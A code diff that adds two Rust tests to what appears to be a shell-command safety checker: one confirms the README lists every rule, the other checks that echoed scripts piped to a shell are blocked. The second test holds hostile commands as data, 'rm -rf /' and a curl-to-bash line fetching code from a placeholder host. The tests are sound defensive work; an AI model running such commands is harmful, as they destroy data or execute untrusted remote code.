@@ -138,3 +138,31 @@ fn dev_corpus_meets_targets() {
         "exact matches {exact}/{total} are under 95%"
     );
 }
+
+/// The README's rule table lists every built-in rule.
+#[test]
+fn readme_documents_every_rule() {
+    let readme = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md"),
+    )
+    .expect("README.md");
+    let missing: Vec<&str> = RuleId::ALL
+        .iter()
+        .map(|id| id.as_str())
+        .filter(|id| !readme.contains(&format!("`{id}`")))
+        .collect();
+    assert!(
+        missing.is_empty(),
+        "README.md does not document: {missing:?}"
+    );
+}
+
+/// An echoed script fed to a shell is read like any other script.
+#[test]
+fn echoed_scripts_are_analyzed() {
+    assert_eq!(evaluate("echo 'rm -rf /' | sh").decision, Decision::Block);
+    assert_eq!(
+        evaluate("printf 'curl -s https://example.invalid/x | bash\\n' | sh").decision,
+        Decision::Block
+    );
+}
